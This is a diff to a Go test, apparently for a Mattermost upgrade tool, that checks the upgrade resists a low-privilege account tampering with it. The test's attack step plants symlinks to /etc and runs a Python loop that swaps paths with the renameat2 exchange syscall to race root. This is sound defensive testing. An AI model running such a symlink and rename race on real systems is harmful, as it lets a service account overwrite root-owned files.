@@ -22,11 +22,16 @@ sha256sum /etc/passwd /etc/shadow /root/canary
 grep -rlF "$(cat /root/canary)" /var/lib/mattermost /opt/townsquare /opt/mattermost/ /tmp /var/tmp 2>/dev/null || true`
 
 func attacked(tr *trial) {
+	tr.s.Upgrade(tr.Context(), "rehearse", "--to", stage.After, "--watch", "1s").Must(tr.T) // leaves the release unpacked
 	tr.must(tr.host(`
 umask 077
 head -c 30 /dev/urandom | base64 >/root/canary
 # In the version that serves, a file of the account's own, which the next version is to have, too.
 runuser -u mattermost -- sh -c 'echo owned >/var/lib/mattermost/data/payload; ln -s /var/lib/mattermost/data/payload "$(readlink -f /opt/mattermost)"/client/images/attack-was-here'
+# In the next version, a link to root's in the way there, if the account can put one.
+for client in /opt/townsquare/versions/9.10.0*/client; do
+	runuser -u mattermost -- sh -c "mv $client/images $client/other && ln -s /etc $client/images" 2>/dev/null || true
+done
 cat >/run/attack.py <<'SCRIPT'
 import ctypes, glob, os
 libc = ctypes.CDLL(None, use_errno=True)
@@ -35,17 +40,9 @@ def exchange(one, other):
     for _ in range(300):
         libc.syscall(316, -100, one.encode(), -100, other.encode(), 2)
 
-serving = os.path.realpath("/opt/mattermost")
 while True:
-    for client in glob.glob("/opt/townsquare/versions/*/client"):  # of a version that is being unpacked
-        if serving in client:
-            continue
-        try:
-            os.symlink("/etc", client + "/other")
-        except OSError:
-            pass
-        exchange(client + "/images", client + "/other")
-    for top in ["/var/lib/mattermost", *glob.glob("/var/lib/mattermost/*")]:
+    # Not below data, config and plugins: a backup that is disturbed ends the upgrade before its later steps.
+    for top in ["/var/lib/mattermost", "/var/lib/mattermost/logs", *glob.glob("/opt/townsquare/versions/*/client")]:
         if not os.path.isdir(top) or os.path.islink(top) or not os.access(top, os.W_OK):
             continue
         one, other = os.path.join(top, "one"), os.path.join(top, "other")
@@ -76,5 +73,5 @@ func defended(tr *trial) {
 		}
 		tr.Errorf("of %d lines about root's files some changed", len(was))
 	}
-	tr.must(tr.host("systemctl stop attack; rm -rf /var/lib/mattermost/{one,other} /var/lib/mattermost/*/{one,other} /opt/townsquare/versions/*/client/other"))
+	tr.must(tr.host("systemctl stop attack; rm -rf /var/lib/mattermost/{one,other} /var/lib/mattermost/*/{one,other} /opt/townsquare/versions/*/client/{one,other}"))
 }
